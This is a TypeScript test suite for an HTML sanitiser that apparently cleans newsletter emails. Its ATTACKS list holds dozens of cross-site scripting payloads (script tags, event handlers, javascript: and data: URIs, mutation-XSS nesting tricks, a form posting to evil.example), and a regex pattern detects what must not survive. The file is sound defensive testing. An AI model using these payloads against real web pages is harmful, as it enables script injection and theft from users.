import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { sanitise } from "./sanitise.ts";

const clean = (html: string, baseUrl: string | null = null) => sanitise(html, { baseUrl });

const ATTACKS = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<img src=x onerror=alert(1)>",
  '<img src="x" onerror="alert(1)">',
  "<img/src=x/onerror=alert(1)>",
  '<img """><script>alert(1)</script>">',
  "<body onload=alert(1)>",
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg/onload=alert(1)//",
  '<svg><animate xlink:href="#x" attributeName="href" values="javascript:alert(1)"/><a id="x">x</a></svg>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<math href="javascript:alert(1)">x</math>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;script:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src="javascript:alert(1)">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  "<style>@import 'https://evil.example/x.css';</style>",
  '<p style="width: expression(alert(1))">x</p>',
  '<p style="background: url(javascript:alert(1))">x</p>',
  '<p style="background-image:url(https://evil.example/open.gif)">x</p>',
  '<p style="beh\\61vior: url(x.htc)">x</p>',
  '<p style="position:fixed;top:0;left:0;width:100%;height:100%">x</p>',
  '<form action="https://evil.example/"><input name=password><button formaction="javascript:alert(1)">x</button></form>',
  "<details open ontoggle=alert(1)>x</details>",
  '<video><source onerror="alert(1)"></video>',
  "<input autofocus onfocus=alert(1)>",
  '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
  '<a href="https://a.example" onclick="alert(1)">x</a>',
  '<div data-x="<script>alert(1)</script>" onmouseover="alert(1)">x</div>',
  "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<xmp><img src=x onerror=alert(1)></xmp>",
  "<textarea><img src=x onerror=alert(1)></textarea>",
  "<template><script>alert(1)</script></template>",
  "<title><img src=x onerror=alert(1)></title>",
];

// inside a tag only: the same words in text are harmless
const DANGEROUS =
  /<[^>]*\s(on\w+|srcdoc|formaction|action|background|xlink:href|http-equiv)\s*=|<\/?(script|style|svg|math|iframe|object|embed|form|input|button|meta|base|link|template|textarea|title|noscript|xmp|video|source)\b|<[^>]*(javascript|vbscript|data:text|data:image\/svg|expression|url\(|position\s*:)|<!--/i;

describe("sanitising strangers' markup", () => {
  it.each(ATTACKS)("neutralises %s", (attack) => {
    expect(clean(attack).html).not.toMatch(DANGEROUS);
    expect(clean(`<p>before ${attack} after</p>`, "https://letter.example/").html).not.toMatch(DANGEROUS);
  });

  it("changes nothing when it is done twice", () => {
    const piece = fc.oneof(
      fc.constantFrom(...ATTACKS),
      fc.constantFrom(
        "<p>",
        "</p>",
        "<div>",
        "</div>",
        "<table>",
        "<tr>",
        "<td>",
        "</td>",
        "</table>",
        "<a href='https://a.example/?utm_source=x&b=1'>",
        "</a>",
        "<b>",
        "</i>",
        "<li>",
        "<ul>",
        "<h2>",
        "<br>",
        "&lt;b&gt;",
        "&amp;lt;",
        "<img src='https://a.example/x.png' width=1 height=1>",
        '<p style="color: red; width:expression(1)">',
        "<a href='/x'>",
        "<details>",
        "</br>",
      ),
      fc.string(),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 30 }), (pieces) => {
        const once = clean(pieces.join("")).html;
        expect(clean(once).html).toBe(once);
      }),
      { numRuns: 500 },
    );
  });

  it("counts and removes images that are there to be loaded, not to be seen", () => {
    const { html, trackersRemoved, images } = clean(
      '<img src="https://t.example/a.gif" width="1" height="1"><img src="https://t.example/b" style="display:none"><img src="https://x.list-manage.com/track/open.php?u=1"><img src="https://a.example/chart.png" width="600" alt="Chart">',
    );
    expect(trackersRemoved).toBe(3);
    expect(html).not.toContain("t.example");
    expect(images).toEqual([{ src: "https://a.example/chart.png", alt: "Chart" }]);
  });

  it("takes tracking out of links and unwraps a redirector whose target is in plain sight", () => {
    const { links } = clean(
      '<a href="https://a.example/post?utm_source=letter&id=7&mc_eid=9">One</a> <a href="https://www.google.com/url?q=https%3A%2F%2Fb.example%2Fx%3Futm_medium%3Demail">Two</a> <a href="https://twitter.com/share?url=https%3A%2F%2Fc.example">Share</a>',
    );
    expect(links.map(({ href }) => href)).toEqual([
      "https://a.example/post?id=7",
      "https://b.example/x",
      "https://twitter.com/share?url=https%3A%2F%2Fc.example",
    ]);
  });

  it("makes addresses absolute, and opens them without a way back", () => {
    const { html } = clean('<a href="/about">About</a><img src="i.png">', "https://letter.example/p/1");
    expect(html).toContain('href="https://letter.example/about" target="_blank" rel="noopener noreferrer nofollow"');
    expect(html).toContain('src="https://letter.example/p/i.png"');
  });

  it("keeps tables, headings and a harmless look", () => {
    const letter = '<h2 style="color:#333">Week</h2><table><tbody><tr><td colspan="2">BTC</td></tr></tbody></table>';
    expect(clean(letter).html).toBe(letter);
  });
});
